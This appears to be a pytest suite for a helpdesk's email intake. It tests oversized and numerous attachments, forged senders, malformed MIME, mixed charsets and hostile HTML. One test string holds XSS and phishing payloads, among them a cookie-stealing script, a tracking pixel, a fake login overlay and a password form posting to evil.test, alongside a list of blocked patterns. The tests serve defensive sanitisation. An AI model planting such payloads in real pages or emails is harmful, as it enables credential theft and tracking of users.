"""Issue 18's "bad input to try", each through the real Dovecot (IMAP APPEND, then a fetch):
a 30 MB attachment and 500 attachments at the default limits, a forged From, malformed MIME,
mixed encodings and RFC 2047 subjects in cp1252 and UTF-8, and HTML with scripts, remote
images and CSS tricks. Each opens a ticket (or, for our own address, nothing) without an
error, and keeps the original whole.

The others are tried where their machinery is: no From and our own address in
``test_inbound.TestNoise``, the IMAP server down mid-fetch in ``test_inbound.TestServerTrouble``,
the SMTP server's 4xx then 5xx in ``test_outbound.TestSending``, a reply to a ticket that was
merged, closed or purged in ``test_inbound.TestReplies``, 30 MB and 500 files from agents in
``test_reply_files``.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage

import pytest
from sqlalchemy import select

from customer_flow.store.schema import mail_inbound

from .conftest import MailDesk, mail

MB = 1024 * 1024


def _original(desk: MailDesk) -> bytes:
    with desk.hub.store.read() as conn:
        return bytes(conn.execute(select(mail_inbound.c.raw)).scalar_one())


def _files_in_store(desk: MailDesk) -> list[str]:
    folder = desk.hub.settings.resolved_attachment_dir()
    return sorted(p.name for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def _with_files(files: list[tuple[str, bytes]]) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Rita Reis <rita@reis.pt>"
    msg["To"] = "support@desk.test"
    msg["Subject"] = "Files"
    msg["Message-ID"] = f"<files-{len(files)}-{sum(len(d) for _, d in files)}@reis.pt>"
    msg.set_content("See the files.")
    for name, data in files:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes()


class TestSizes:
    def test_a_30_mb_attachment_at_the_default_limits(self, desk: MailDesk) -> None:
        """Over the 25 MB message limit: the ticket opens from the header alone and says so;
        nothing is written to the file store, and the message stays in the mailbox."""
        desk.deliver(_with_files([("scan.tif", b"\x00" * 30 * MB)]))
        report = desk.hub.fetch_mail()
        assert [] == report.errors
        [ticket_id] = report.tickets
        ticket = desk.hub.get_ticket(ticket_id)
        assert "Files" == ticket.subject
        assert "over the limit of 26,214,400: only its header was read" in ticket.description
        assert [] == desk.hub.list_attachments(ticket_id)
        assert [] == _files_in_store(desk)
        kept = _original(desk)  # the header, not 40 MB of base64
        assert b"From: Rita Reis <rita@reis.pt>" in kept and b"See the files" not in kept
        assert len(kept) < 10_000

    def test_a_30_mb_attachment_under_a_larger_message_limit_is_named_not_kept(
        self, desk: MailDesk, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The message is read whole: the 30 MB file is over the 10 MB per-file limit, so it
        is named on the ticket as not kept; the small one beside it is kept."""
        monkeypatch.setattr(desk.hub.settings, "mail_max_message_bytes", 64 * MB)
        desk.deliver(_with_files([("scan.tif", b"\x00" * 30 * MB), ("note.txt", b"hello")]))
        [ticket_id] = desk.hub.fetch_mail().tickets
        description = desk.hub.get_ticket(ticket_id).description
        assert "scan.tif (31,457,280 bytes, not kept)" in description
        assert "[1 not kept: over 50 files or 10,485,760 bytes each" in description
        assert ["note.txt"] == [a.filename for a in desk.hub.list_attachments(ticket_id)]
        assert 1 == len(_files_in_store(desk))

    def test_500_attachments_at_the_default_limits(self, desk: MailDesk) -> None:
        """The first 50 are kept (each once in the store, by content), the other 450 are
        named as not kept; the ticket names 20 and counts the rest."""
        desk.deliver(_with_files([(f"f{n:03}.bin", f"file {n}".encode()) for n in range(500)]))
        [ticket_id] = desk.hub.fetch_mail().tickets
        kept = desk.hub.list_attachments(ticket_id)
        assert [f"f{n:03}.bin" for n in range(50)] == [a.filename for a in kept]
        assert 50 == len(_files_in_store(desk))
        description = desk.hub.get_ticket(ticket_id).description
        assert "and 480 more]" in description
        assert "[450 not kept: over 50 files" in description


class TestSenders:
    @pytest.mark.parametrize(
        "sender",
        [
            "Support <support@desk.test>",
            '"Rita Reis" <SUPPORT@Desk.Test>',
            "=?utf-8?q?Suporte?= <support@desk.test>",
        ],
    )
    def test_a_forged_from_equal_to_our_address_opens_nothing(
        self, desk: MailDesk, sender: str
    ) -> None:
        desk.deliver(mail(sender=sender))
        report = desk.hub.fetch_mail()
        assert ([], 1, []) == (report.tickets, report.ignored, report.errors)
        [read] = desk.hub.list_inbound_mail()
        assert ("ignored", "from our own address support@desk.test") == (read.outcome, read.reason)

    def test_no_from_at_all_opens_nothing(self, desk: MailDesk) -> None:
        desk.deliver(mail(sender=""))
        report = desk.hub.fetch_mail()
        assert ([], 1, []) == (report.tickets, report.ignored, report.errors)
        assert "no sender address" == desk.hub.list_inbound_mail()[0].reason


class TestEncodings:
    def test_malformed_mime_opens_a_ticket_and_keeps_the_original(self, desk: MailDesk) -> None:
        """A header line with no colon, a boundary that never comes, broken base64, a part
        with an unknown charset: what can be read is filed, nothing raises."""
        raw = (
            b"From: Rita Reis <rita@reis.pt>\r\nThis line is no header\r\nTo: support@desk.test\r\n"
            b"Subject: Broken\r\nMessage-ID: <broken-mime@reis.pt>\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="never"\r\n\r\n'
            b"--other\r\nContent-Type: text/plain; charset=klingon\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n@@@!!!not base64\r\n"
        )
        desk.deliver(raw)
        report = desk.hub.fetch_mail()
        assert [] == report.errors
        [ticket_id] = report.tickets
        ticket = desk.hub.get_ticket(ticket_id)
        customer = desk.hub.get_customer(ticket.customer_id)
        assert "rita@reis.pt" == customer.email
        assert b"@@@!!!not base64" in _original(desk)

    @pytest.mark.parametrize(
        ("encoded", "expected"),
        [
            ("=?windows-1252?q?Fatura_de_=80100_n=E3o_paga?=", "Fatura de €100 não paga"),
            ("=?cp1252?B?" + base64.b64encode("“Olá” – €5".encode("cp1252")).decode() + "?=",
             "“Olá” – €5"),
            ("=?utf-8?q?Impressora_avariada_=E2=82=AC?=", "Impressora avariada €"),
            ("=?UTF-8?B?" + base64.b64encode("Привет, 你好 ✓".encode()).decode() + "?=",
             "Привет, 你好 ✓"),
            ("Re: =?utf-8?q?caf=C3=A9?= =?windows-1252?q?_cr=E8me?=", "café crème"),
        ],
        ids=["cp1252-q", "cp1252-b", "utf8-q", "utf8-b", "both-in-one"],
    )  # fmt: skip
    def test_rfc2047_subjects(self, desk: MailDesk, encoded: str, expected: str) -> None:
        desk.deliver(mail(subject=encoded))
        [ticket_id] = desk.hub.fetch_mail().tickets
        assert expected == desk.hub.get_ticket(ticket_id).subject

    def test_mixed_encodings_in_one_message(self, desk: MailDesk) -> None:
        """A Latin-1 encoded sender name, a cp1252 text part, a UTF-8 HTML part, a KOI8-R
        quoted-printable note and an attachment named in RFC 2231 UTF-8: each decodes."""
        text = "Olá, a fatura de €100 está errada.".encode("cp1252")
        html = "<p>Olá — ✓</p>".encode()
        raw = (
            b"From: =?iso-8859-1?q?Jo=E3o_Gon=E7alves?= <joao@reis.pt>\r\n"
            b"To: support@desk.test\r\nSubject: =?utf-8?q?Fatura_=E2=82=AC?=\r\n"
            b"Message-ID: <mixed@reis.pt>\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
            b'--outer\r\nContent-Type: multipart/alternative; boundary="inner"\r\n\r\n'
            b"--inner\r\nContent-Type: text/plain; charset=windows-1252\r\n"
            b"Content-Transfer-Encoding: 8bit\r\n\r\n" + text + b"\r\n"
            b"--inner\r\nContent-Type: text/html; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(html) + b"\r\n"
            b"--inner--\r\n"
            b"--outer\r\nContent-Type: application/octet-stream\r\n"
            b"Content-Disposition: attachment; filename*=utf-8''r%C3%A9sum%C3%A9.txt\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(b"cv") + b"\r\n"
            b"--outer--\r\n"
        )
        desk.deliver(raw)
        [ticket_id] = desk.hub.fetch_mail().tickets
        ticket = desk.hub.get_ticket(ticket_id)
        assert "Fatura €" == ticket.subject
        assert ticket.description.startswith("Olá, a fatura de €100 está errada.")
        assert "João Gonçalves" == desk.hub.get_customer(ticket.customer_id).name
        assert ["résumé.txt"] == [a.filename for a in desk.hub.list_attachments(ticket_id)]


class TestHtml:
    HOSTILE = (
        "<html><head><style>@import url(http://evil.test/a.css); body{display:none}</style>"
        '<link rel="stylesheet" href="http://evil.test/b.css">'
        '<meta http-equiv="refresh" content="0;url=http://evil.test/">'
        '<base href="http://evil.test/"></head><body>'
        "<p>Please <b>help</b></p>"
        "<script>alert(document.cookie)</script>"
        '<img src="http://evil.test/pixel.gif?u=rita" width="1" height="1">'
        '<img src="cid:logo@reis.pt">'
        '<div style="background:url(http://evil.test/bg.png);position:fixed;top:0;left:0;'
        'width:100%;height:100%">Your session expired, <a href="javascript:alert(1)">log in'
        "</a></div>"
        '<p style="color:expression(alert(2))" onmouseover="alert(3)">hover</p>'
        '<svg onload="alert(4)"><image href="http://evil.test/svg.png"/></svg>'
        '<iframe src="http://evil.test/frame"></iframe>'
        '<form action="http://evil.test/steal"><input name="password"></form>'
        "</body></html>"
    )

    def test_scripts_remote_images_and_css_tricks_never_reach_the_ticket(
        self, desk: MailDesk
    ) -> None:
        raw = mail(subject="HTML", body=self.HOSTILE).replace(b"text/plain", b"text/html")
        desk.deliver(raw)
        [ticket_id] = desk.hub.fetch_mail().tickets
        description = desk.hub.get_ticket(ticket_id).description
        assert description.startswith("Please help")
        assert "Your session expired, log in" in description and "hover" in description
        for bad in ("evil.test", "<script", "alert(", "javascript:", "expression", "<img",
                    "onload", "onmouseover", "<style", "@import", "cid:", "<iframe", "<form",
                    "display:none", "position:fixed", "<"):  # fmt: skip
            assert bad not in description
        assert b"evil.test" in _original(desk)  # kept whole, never shown

    def test_the_ticket_page_shows_it_as_text_under_the_csp(self, desk: MailDesk) -> None:
        raw = mail(subject="HTML", body=self.HOSTILE).replace(b"text/plain", b"text/html")
        desk.deliver(raw)
        [ticket_id] = desk.hub.fetch_mail().tickets
        client = desk.viewer_client()
        page = client.get(f"/tickets/{ticket_id}")
        assert 200 == page.status_code
        assert "Please help" in page.text
        assert "evil.test" not in page.text and "alert(" not in page.text
        csp = page.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "img-src 'self' data:" in csp
